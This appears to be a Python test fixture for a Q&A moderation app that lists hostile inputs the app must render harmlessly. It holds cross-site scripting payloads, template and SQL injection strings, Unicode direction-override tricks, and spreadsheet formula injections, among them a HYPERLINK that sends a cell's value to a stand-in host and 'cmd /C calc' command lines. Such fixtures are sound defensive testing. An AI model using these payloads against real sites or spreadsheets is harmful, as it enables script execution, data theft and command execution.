"""Texts that people send to see what happens: none of them may run, turn the page, or break out of its place."""

from __future__ import annotations

MARK = "__pwned"
"""What each script among them would set on `window`."""

SCRIPTS = [
    f"<script>window.{MARK}=1</script>",
    f'"><script>window.{MARK}=1</script>',
    f"</script><script>window.{MARK}=1</script>",
    f"</textarea></title></style><script>window.{MARK}=1</script>",
    f"<img src=x onerror=window.{MARK}=1>",
    f'" onmouseover="window.{MARK}=1" x="',
    f"' autofocus onfocus='window.{MARK}=1' x='",
    f"<svg onload=window.{MARK}=1><circle r=9></svg>",
    f'<math><mi//xlink:href="data:x,<script>window.{MARK}=1</script>">',
    f'<iframe srcdoc="<script>parent.{MARK}=1</script>"></iframe>',
    f"<details open ontoggle=window.{MARK}=1>x</details>",
    f'<a href="javascript:window.{MARK}=1">click me</a>',
    f"javascript:window.{MARK}=1//",
    f'<style>@import "//x.invalid/{MARK}.css";*{{display:none!important}}</style>',
    '<base href="//x.invalid/"><meta http-equiv=refresh content="0;url=//x.invalid">',
    '<form action="//x.invalid"><button>Send</button></form>',
    f"${{window.{MARK}=1}} #{{window.{MARK}=1}} {{{{constructor.constructor('window.{MARK}=1')()}}}}",
    f"`-alert(1)-` \\u003cscript\\u003ewindow.{MARK}=1\\u003c/script\\u003e",
    f"%3Cscript%3Ewindow.{MARK}=1%3C/script%3E &lt;script&gt;window.{MARK}=1&lt;/script&gt;",
    f"<!--<script>window.{MARK}=1//--><script>window.{MARK}=1</script>",
    "]]>'\"><xss/> <![CDATA[x]]> <?xml version='1.0'?>",
    "<live-desk></live-desk><live-question-panel></live-question-panel>",
    "'; DROP TABLE qa_moderation_question; -- \" OR 1=1 %s %(x)s {0}",
]

TEXTS = [
    "\u202egnp.exe\u202c is it a picture?",  # bidi override
    "\u2066\u2067is this\u2069 upside down?\u2069",  # isolates
    "\u200fright\u200e and left, what about it?",  # marks
    "Z" + "\u0335\u0321\u0322\u0327\u0328\u0300\u0301\u0302\u0303\u0304" * 20 + "algo, how high does it climb?",
    "nothing\u200b\u2060\ufeff\u00ad hidden\u180e in here?",
    "e\u0301" * 40 + " is an accent?",
    "ما هو مدى هذه السيارة في الشتاء؟",
    "מה הטווח של המכונית? ABC 123",
    "この車の航続距離はどのくらいですか？",  # noqa: RUF001 - Japanese
    "👩‍👩‍👧‍👦🏳️‍🌈👍🏽 how many fit in the boot? 🚗💨",
    "W" * 280,
    "very " * 55 + "long?",
    "﷽" * 40,
    "a\tb\nc\r\nd\x00e\x1b[31m, on one line?",
    "\ud83dhalf a surrogate?".encode("utf-8", "replace").decode(),
]

FORMULAS = [
    '=HYPERLINK("http://x.invalid/?"&A1,"click")',
    "+1-1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1 with a tab",
]

PAYLOADS = [*SCRIPTS, *TEXTS, *FORMULAS]
